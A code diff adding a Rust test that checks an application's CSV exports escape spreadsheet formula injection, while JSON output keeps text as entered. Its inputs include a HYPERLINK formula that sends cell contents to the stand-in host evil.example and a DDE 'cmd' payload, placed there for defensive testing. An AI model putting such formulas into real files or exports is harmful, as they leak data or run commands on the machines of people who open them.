@@ -106,4 +106,50 @@ on_both_backends! {
         let page = download(&app, "/open-data").await;
         assert!(page.contains("<code>definition_match</code>"), "{page}");
     }
+
+    async fn no_cell_of_a_csv_runs_as_a_formula_in_a_spreadsheet(app) {
+        let checker = app.member("checker@coalition.example", "researcher", support::ORGANISATION).await;
+        let mut body = figure("12", "", None);
+        body["publication_title"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")");
+        body["definition"] = json!("@SUM(A1:A9)");
+        body["caveats"] = json!("-5");
+        body["publisher"] = json!("+1+cmd|' /C calc'!A0");
+        add(&app, Some(&checker), body).await;
+
+        let csv_text = download(&app, "/open-data/figures.csv").await;
+        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+        let row: Vec<String> = reader.records().next().unwrap().unwrap().iter().map(str::to_string).collect();
+        assert_eq!(row[column("publication_title")], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")");
+        assert_eq!(row[column("definition")], "'@SUM(A1:A9)");
+        assert_eq!(row[column("publisher")], "'+1+cmd|' /C calc'!A0");
+        // A number stays a number, negative or not.
+        assert_eq!(row[column("caveats")], "-5");
+        assert_eq!(row[column("value")], "12");
+        // JSON is no spreadsheet: it carries the text as entered.
+        let json_rows: Value = serde_json::from_str(&download(&app, "/open-data/figures.json").await).unwrap();
+        assert_eq!(json_rows[0]["definition"], "@SUM(A1:A9)");
+
+        // The history's exports, from the page and the API, likewise.
+        let home_office = app.authority("Home Office").await;
+        let id = app
+            .create_request(json!({"title": "=HYPERLINK(\"http://evil.example\",\"x\")", "body": "B", "authority_id": home_office, "sent_on": "2026-04-01", "reference": "-12"}))
+            .await["id"]
+            .as_i64()
+            .unwrap();
+        for path in ["/history/export?dataset=requests&format=csv", "/api/v1/history/export?dataset=requests&format=csv"] {
+            let response = app.get(path).await;
+            assert_eq!(response.status(), StatusCode::OK, "{path}");
+            let text = response.text().await.unwrap();
+            let mut reader = csv::Reader::from_reader(text.as_bytes());
+            let row = reader
+                .records()
+                .map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<String>>())
+                .find(|r| r[0] == id.to_string())
+                .unwrap_or_else(|| panic!("{text}"));
+            assert_eq!(row[9], "'=HYPERLINK(\"http://evil.example\",\"x\")", "{path}");
+            assert_eq!(row[10], "-12", "{path}");
+        }
+    }
 }
